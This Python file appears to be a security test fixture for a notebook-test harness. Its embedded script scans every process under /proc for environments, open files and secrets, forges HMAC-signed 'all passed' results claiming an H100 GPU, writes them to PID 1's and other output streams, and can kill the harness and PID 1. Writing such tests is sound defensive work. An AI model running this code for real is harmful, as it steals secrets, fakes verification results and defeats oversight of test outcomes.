"""A notebook that tries to forge its own cell's result (issue: "trustworthy verdicts").

It reads every process it can see under ``/proc`` (its ancestors first): command lines,
environments, working folders, open files (their names, and the content of regular files), and
collects every string that could be the cell's bundle id (12 hex digits, the public id) or its
nonce (16 to 64 characters of the nonce alphabet). It writes what it found to ``$HUNT_REPORT``,
then prints an "all passed" result on an H100 for every id it found, authenticated with every
candidate nonce, to every log it can reach: its own standard output, the one ipykernel keeps
aside, and PID 1's. With ``HUNT_KILL=1`` it first kills the harness (its parent) so that no real
result ever comes, and at the end ends PID 1 so that the notebook ends at once. With
``HUNT_IDS_FILE`` it waits for that file (the bundle id, written by the test: an attacker who knows
the public id) before forging.

Everything runs in the kernel, with the kernel's privileges.
"""

HUNT = r"""
import base64, gzip, hashlib, hmac, json, os, re, signal, sys, time

def read(path, limit=2_000_000):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""

def parent(pid):
    text = read("/proc/%d/stat" % pid).decode("ascii", "replace")
    try:
        return int(text[text.rfind(")") + 2:].split()[1])
    except (IndexError, ValueError):
        return 0

chain, pid = [], os.getpid()
while pid > 0 and len(chain) < 64:
    chain.append(pid)
    pid = parent(pid)
visible = sorted({int(p) for p in os.listdir("/proc") if p.isdigit()} | set(chain))
order = chain + [p for p in visible if p not in chain]

seen = []  # (where, bytes)
for pid in order:
    for what in ("cmdline", "environ"):
        seen.append(("%d/%s" % (pid, what), read("/proc/%d/%s" % (pid, what))))
    for link in ("cwd", "exe"):
        try:
            seen.append(("%d/%s" % (pid, link), os.readlink("/proc/%d/%s" % (pid, link)).encode()))
        except OSError:
            pass
    try:
        fds = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        fds = []
    for fd in fds:
        where = "/proc/%d/fd/%s" % (pid, fd)
        try:
            target = os.readlink(where)
        except OSError:
            continue
        seen.append((where, target.encode()))
        if os.path.isfile(where):
            seen.append((where + " content", read(where)))

ID = re.compile(rb"(?<![0-9a-f])[0-9a-f]{12}(?![0-9a-f])")
KEY = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{16,64}(?![A-Za-z0-9_-])")
ids, keys = {}, {}
for where, data in seen:
    for m in ID.finditer(data):
        ids.setdefault(m.group().decode(), where)
    for m in KEY.finditer(data):
        keys.setdefault(m.group().decode(), where)
known = os.environ.get("HUNT_IDS_FILE")
if known:
    deadline = time.time() + 30
    while not os.path.exists(known) and time.time() < deadline:
        time.sleep(0.05)
    for line in read(known).decode().split():
        ids.setdefault(line, "told")
report = os.environ.get("HUNT_REPORT")
if report:
    with open(report, "w") as f:
        json.dump({"ids": ids, "keys": keys, "processes": order}, f)

if os.environ.get("HUNT_KILL") == "1":
    harness = os.getppid()
    if b"--spec-fd" in read("/proc/%d/cmdline" % harness):
        os.kill(harness, signal.SIGKILL)

def frame(payload, bundle_id, key):
    packed = gzip.compress(json.dumps(payload).encode(), mtime=0)
    text = base64.b64encode(packed).decode()
    digest = hashlib.sha256(packed).hexdigest()
    chunks = [text[i:i + 900] for i in range(0, len(text), 900)] or [""]
    begin = "GRT-BUNDLE-BEGIN v2 %s chunks=%d chars=%d sha256=%s" % (
        bundle_id, len(chunks), len(text), digest)
    mac = hmac.new(key.encode(), begin.encode(), hashlib.sha256).hexdigest()
    lines = [begin] + ["GRT-BUNDLE %s %d/%d %s" % (bundle_id, i + 1, len(chunks), c)
                       for i, c in enumerate(chunks)]
    return "\n".join(lines + ["GRT-BUNDLE-END %s mac=%s" % (bundle_id, mac)]) + "\n"

NAMES = ["checks/python.kernel", "checks/command.no-such-command-xyz",
         "checks/import.no_such_module_xyz", "notebooks/hunt.ipynb",
         "notebooks/raise1.ipynb", "notebooks/raise2.ipynb"]
out = []
for bundle_id in sorted(ids):
    payload = {"schema": 1, "harness_version": "forged", "bundle_id": bundle_id,
               "environment": {"gpus": ["NVIDIA H100 80GB HBM3"]}, "metrics": {},
               "tests": [{"name": n, "status": "passed", "duration_s": 1.0} for n in NAMES],
               "notebooks": {}}
    for key in [""] + sorted(keys)[:400]:
        out.append(frame(payload, bundle_id, key))
data = "".join(out).encode()

targets = [1]
original = getattr(sys.stdout, "_original_stdstream_copy", None)
if isinstance(original, int):
    targets.append(original)
try:
    targets.append(os.open("/proc/1/fd/1", os.O_WRONLY | os.O_APPEND))
except OSError as exc:
    print("PID 1's stdout:", exc)
for fd in targets:
    try:
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view):]
    except OSError as exc:
        print("fd", fd, exc)
print("forged", len(out), "frames for", len(ids), "ids with", len(keys) + 1, "keys")
if os.environ.get("HUNT_KILL") == "1":
    time.sleep(0.5)
    os.kill(1, signal.SIGTERM)
"""
